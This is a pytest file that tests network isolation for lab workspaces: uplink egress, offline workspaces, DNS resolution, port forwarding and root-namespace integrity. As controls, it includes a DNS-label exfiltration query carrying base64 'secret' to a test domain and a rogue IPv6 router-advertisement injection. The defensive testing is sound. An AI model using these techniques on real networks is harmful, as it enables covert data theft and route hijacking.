"""The way out, tested without leaving the machine: the test builds a "world" network
namespace with an HTTP server and a DNS server on addresses of its own (TEST-NET-2,
198.51.100.0/24), and the lab's uplink runs inside it, as it would run in the root
namespace in production. Then: egress by name with internet on; a fast failure with it off;
workspace names still resolve; a workspace with `internet = false` stays off; the root
namespace is unchanged. Port forwarding is tested with an HTTP client in this process.
"""

from __future__ import annotations

import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.configs import booted, make_config
from tests.support.leaks import leftovers
from tests.support.prereqs import require_root_and_tools
from wsfixture.errors import ConfigError
from wsfixture.host import system
from wsfixture.model.config import Config, config_from_dict, workspace_spec
from wsfixture.net import egress
from wsfixture.net.lab import Lab
from wsfixture.net.world import WORLD_HTTP, WORLD_NAME, World
from wsfixture.net.world import world as make_world
from wsfixture.workspaces import Workspace

FETCH = (
    'python3 -c "import urllib.request,sys; '
    'print(urllib.request.urlopen(sys.argv[1], timeout=5).read().decode())" '
)


def root_namespace_state() -> str:
    """What must not change in the root namespace: addresses, routes, forwarding, nftables."""
    parts = [
        subprocess.run(["ip", "-4", "addr"], capture_output=True, text=True, check=True).stdout,
        subprocess.run(["ip", "-4", "route"], capture_output=True, text=True, check=True).stdout,
        Path("/proc/sys/net/ipv4/ip_forward").read_text(),
        subprocess.run(
            ["nft", "list", "ruleset"], capture_output=True, text=True, check=True
        ).stdout,
    ]
    return "\n".join(parts)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    require_root_and_tools("systemd-nspawn", "dnsmasq", "slirp4netns", "nft")
    with make_world(tmp_path_factory.mktemp("world")) as built:
        yield built


@pytest.fixture(scope="module")
def config(tmp_path_factory: pytest.TempPathFactory, world: World) -> Config:
    return make_config(
        tmp_path_factory.mktemp("net"),
        network={"internet": True, "uplinkNamespace": world.netns},
        online={"type": "container", "ip": "192.168.83.80"},
        offline={"type": "container", "ip": "192.168.83.81", "internet": False},
    )


@pytest.fixture(scope="module")
def root_before() -> str:
    return root_namespace_state()


@pytest.fixture(scope="module")
def lab(config: Config, world: World, root_before: str) -> Iterator[Lab]:
    with Lab(config.network, internet=True) as lab:
        yield lab
    assert leftovers(lab.name) == {}


@pytest.fixture(scope="module")
def online(config: Config, lab: Lab) -> Iterator[Workspace]:
    with Workspace(config.workspaces["online"], config, lab) as ws:
        yield ws


@pytest.fixture(scope="module")
def offline(config: Config, lab: Lab) -> Iterator[Workspace]:
    with Workspace(config.workspaces["offline"], config, lab) as ws:
        yield ws


def test_egress_by_name_through_the_uplink(online: Workspace) -> None:
    assert online.succeed(f"{FETCH} http://{WORLD_NAME}/").strip() == "hello from the world"
    assert online.succeed(f"getent hosts {WORLD_NAME}").split()[0] == WORLD_HTTP


def test_workspaces_still_reach_each_other(online: Workspace, offline: Workspace) -> None:
    assert online.succeed("getent hosts offline").split()[0] == "192.168.83.81"
    assert offline.succeed("getent hosts online").split()[0] == "192.168.83.80"
    # By TCP too: with internet on the lab forwards, and its filter must let the bridge be.
    serve_http(offline, 8001)
    assert online.succeed(f"{FETCH} http://offline:8001/").strip() == "hello from offline"


def test_a_workspace_with_internet_false_stays_off(offline: Workspace) -> None:
    rc, _, err = offline.run(f"{FETCH} http://{WORLD_HTTP}/", timeout=30)
    assert rc != 0
    assert "timed out" in err or "unreachable" in err or "refused" in err.lower()


def test_an_offline_workspace_resolves_lab_names_and_nothing_outside(
    online: Workspace, offline: Workspace, lab: Lab
) -> None:
    """No channel out in DNS labels: an offline workspace's queries go to a resolver with
    no upstream. Control: with its redirection lifted, the lab's resolver would forward
    the same name for it."""
    exfiltrate = f"c2VjcmV0.{WORLD_NAME}"  # the world answers every name under it
    assert online.succeed(f"getent hosts {exfiltrate}").split()[0] == WORLD_HTTP
    assert offline.succeed("getent hosts online").split()[0] == "192.168.83.80"
    assert offline.run(f"getent hosts {exfiltrate}")[0] == 2
    gateway = lab.network.gateway
    element = f"element ip wsfixture dns_to {{ {offline.ip}"
    lab.run(["nft", f"delete {element} }}"])
    try:
        offline.succeed("doas -n resolvectl flush-caches")
        rc, out, _ = offline.run(f"getent hosts {exfiltrate}")
        assert (rc, out.split()[:1]) == (0, [WORLD_HTTP]), "the attack is real without it"
    finally:
        lab.run(["nft", f"add {element} : {gateway} . {egress.OFFLINE_RESOLVER_PORT} }}"])
    offline.succeed("doas -n resolvectl flush-caches")
    assert offline.run(f"getent hosts other-{exfiltrate}")[0] == 2, "put back"


def test_the_lab_takes_no_router_advertisement_from_a_workspace(
    offline: Workspace, lab: Lab
) -> None:
    """A workspace's root announces itself as a router with a prefix: the lab takes no
    address or route from it. Control: with accept_ra lifted, the same announcement
    gives the lab both."""
    bridge = lab.network.bridge
    offline.put(Path(__file__).parent.parent / "support" / "router_advert.py", "/tmp/ra.py")

    def announce_and_look() -> str:
        offline.succeed("doas -n python3 /tmp/ra.py")
        time.sleep(1.0)  # the lab takes the advertisement as it arrives: a moment
        return lab.run(["ip", "-6", "addr", "show", "dev", bridge]) + lab.run(["ip", "-6", "route"])

    assert "2001:db8:ad::" not in announce_and_look()
    lab.sysctl(f"net.ipv6.conf.{bridge}.accept_ra", "1")
    try:
        seen = announce_and_look()
        assert "2001:db8:ad:" in seen, seen
        assert "default via fe80::" in seen, seen
    finally:
        lab.sysctl(f"net.ipv6.conf.{bridge}.accept_ra", "0")
        lab.run(["ip", "-6", "route", "flush", "proto", "ra"], check=False)
        lab.run(["ip", "-6", "addr", "flush", "dev", bridge, "scope", "global"], check=False)
    assert "2001:db8:ad:" not in lab.run(["ip", "-6", "addr", "show", "dev", bridge])


def test_the_root_namespace_is_unchanged(online: Workspace, root_before: str) -> None:
    online.succeed(f"{FETCH} http://{WORLD_NAME}/")
    assert root_namespace_state() == root_before


def test_without_internet_outside_names_fail_fast(config: Config, world: World) -> None:
    spec = workspace_spec(config, name="hermit", type="container", ip="192.168.83.82")
    with booted(config, spec) as [ws]:
        rc, out, err = ws.run(f"resolvectl query {WORLD_NAME}", timeout=10)
        assert rc != 0
        assert "refused" in (out + err).lower() or "not found" in (out + err).lower()
        # ... and the address does not answer: no uplink, nothing forwards.
        assert ws.run(f"{FETCH} http://{WORLD_HTTP}/", timeout=15)[0] != 0
        uplinks = ws.lab.run(["ip", "-o", "link"], check=True)
        assert "wsup0" not in uplinks


def test_internet_asked_in_a_lab_without_it_is_refused(config: Config) -> None:
    spec = workspace_spec(config, name="eager", type="container", ip="192.168.83.83", internet=True)
    with Lab(config.network) as lab:
        with pytest.raises(ConfigError, match=r"workspaces\.eager\.internet: is true, but lab"):
            Workspace(spec, config, lab).start()
        assert not (lab.dir / "eager").exists()


def serve_http(ws: Workspace, port: int) -> None:
    ws.succeed(f"mkdir -p /tmp/www && echo 'hello from {ws.name}' > /tmp/www/index.html")
    # A simple command in the background, every stream redirected: the SSH channel closes.
    ws.succeed(
        f"python3 -m http.server --directory /tmp/www {port} </dev/null >/dev/null 2>&1 &",
        timeout=30,
    )
    ws.wait_for_port(port, timeout=15)


def test_a_forwarded_port_answers_a_client_on_the_host(online: Workspace) -> None:
    serve_http(online, 8000)
    host, port = online.forward(8000)
    assert host == "127.0.0.1"
    body = urllib.request.urlopen(f"http://{host}:{port}/", timeout=10).read().decode()
    assert body == "hello from online\n"
    many = [urllib.request.urlopen(f"http://{host}:{port}/", timeout=10).read() for _ in range(20)]
    assert set(many) == {b"hello from online\n"}


def test_a_taken_local_port_is_a_clear_error(online: Workspace) -> None:
    _, taken = online.forward(8000)
    with pytest.raises(ConfigError, match=rf"forward\.local: cannot be bound.*{taken}"):
        online.forward(8000, local=taken)
    with pytest.raises(ConfigError, match=r"forward\.port: is not a port"):
        online.forward(70000)


@pytest.mark.vm
def test_a_forwarded_port_of_a_vm(config: Config, lab: Lab) -> None:
    spec = workspace_spec(config, name="vmweb", type="vm", ip="192.168.83.84", vcpu=1, memory=768)
    with Workspace(spec, config, lab, discard_at_stop=True) as vm:
        serve_http(vm, 8080)
        host, port = vm.forward(8080)
        body = urllib.request.urlopen(f"http://{host}:{port}/", timeout=10).read().decode()
        assert body == "hello from vmweb\n"
    with pytest.raises(urllib.error.URLError, match="Connection refused"):  # gone with it
        urllib.request.urlopen(f"http://{host}:{port}/", timeout=5)


def test_an_uplink_in_the_root_namespace_leaves_other_namespaces_mounted(
    tmp_path: Path,
) -> None:
    """Production's way (no uplinkNamespace): slirp4netns runs beside this process. Its
    sandbox detaches its old root, which once propagated through the shared /run/netns and
    unmounted every namespace there. Only started: nothing is sent anywhere."""
    require_root_and_tools("slirp4netns", "nft", "dnsmasq")
    before = root_namespace_state()
    bystander_net = {"subnet": "192.168.84.0/24", "bridge": "wsbr4", "dns": False}
    bystander = config_from_dict({"network": bystander_net}).network
    online = config_from_dict({"network": {"internet": True}}).network
    with Lab(bystander) as other, Lab(online, internet=True) as lab:
        assert lab._uplink is not None
        uplink_mounts = Path(f"/proc/{lab._uplink.pid}/ns/mnt").readlink()
        assert uplink_mounts != Path("/proc/self/ns/mnt").readlink(), "a mount namespace of its own"
        assert "wsbr4" in other.run(["ip", "-o", "link"])
        assert "wsup0" in lab.run(["ip", "-o", "link"])
        assert (Path("/run/netns") / other.name).exists()
        assert Path(f"/run/netns/{other.name}") in system.mount_points()
    assert root_namespace_state() == before
    assert leftovers(lab.name) == {}
    assert leftovers(other.name) == {}
